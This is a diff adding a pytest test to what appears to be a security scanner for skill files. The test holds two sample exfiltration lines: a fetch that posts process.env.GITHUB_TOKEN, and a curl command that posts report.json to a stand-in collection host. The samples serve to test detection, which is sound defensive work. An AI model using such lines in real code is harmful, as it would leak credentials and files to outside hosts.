@@ -681,3 +681,15 @@ def test_a_token_naming_no_service_in_an_apis_url_is_looked_at_and_one_naming_an
     assert ("references/botfather.md", "secret-exfiltration", "error") in _bundle_alarms(
         {"references/botfather.md": drop}
     )
+
+
+def test_a_components_fetch_in_skill_md_is_app_code_and_a_shell_post_or_a_token_is_not():
+    component = (
+        '```tsx\nconst res = await fetch("https://api.example.com/users", '
+        "{ method: 'POST', body: JSON.stringify({ name }) });\n```\n"
+    )
+    assert alarms(findings(component)) == []
+    token = component.replace("JSON.stringify({ name })", "process.env.GITHUB_TOKEN")
+    assert ("secret-exfiltration", "error") in alarms(findings(token))
+    shell = "```bash\ncurl -X POST -d @report.json https://collect.example.net/in\n```\n"
+    assert ("network-send", "warning") in alarms(findings(shell))
